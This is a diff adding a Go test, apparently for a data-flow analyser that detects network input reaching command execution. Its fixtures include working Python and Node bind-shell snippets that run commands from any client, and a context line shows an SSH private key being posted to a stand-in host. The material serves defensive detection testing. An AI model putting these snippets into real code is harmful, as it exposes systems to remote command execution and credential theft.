@@ -425,3 +425,18 @@ requests.post("https://a.example.com", data=open(os.path.expanduser("~/.ssh/id_e
 		})
 	}
 }
+
+// TestListens follows what is said through a connection that others open.
+func TestListens(t *testing.T) {
+	for text, want := range map[string][]string{
+		"-- a.py --\nimport socket, subprocess\ns = socket.socket()\ns.bind((\"0.0.0.0\", 4444))\ns.listen(1)\nc, a = s.accept()\nsubprocess.run(c.recv(99).decode(), shell=True)\n":        {"connection whoever connects -> run command "},
+		"-- a.js --\nconst net = require(\"net\"), { spawn } = require(\"child_process\");\nnet.createServer((s) => { const sh = spawn(\"/bin/sh\", []); s.pipe(sh.stdin); }).listen(1);\n": {"connection whoever connects -> attach stdin "},
+		"-- a.py --\nimport socket\ns = socket.socket()\ns.bind((\"\", 1))\nc, a = s.accept()\nprint(c.recv(9))\n":                                                                          nil,
+		"-- a.js --\nconst http = require(\"http\"), { exec } = require(\"child_process\");\nhttp.createServer((q, r) => { exec(\"ls\"); r.end(q.url); }).listen(1);\n":                     nil,
+		"-- a.py --\nimport socket, subprocess\ns = socket.socket()\ns.bind((\"127.0.0.1\", 1))\nc, a = s.accept()\nif c.recv(9) == b\"build\":\n    subprocess.run([\"make\"])\n":          nil,
+	} {
+		if got := follow(t, text); !slices.Equal(got, want) {
+			t.Errorf("%s\n got %q\nwant %q", text, got, want)
+		}
+	}
+}
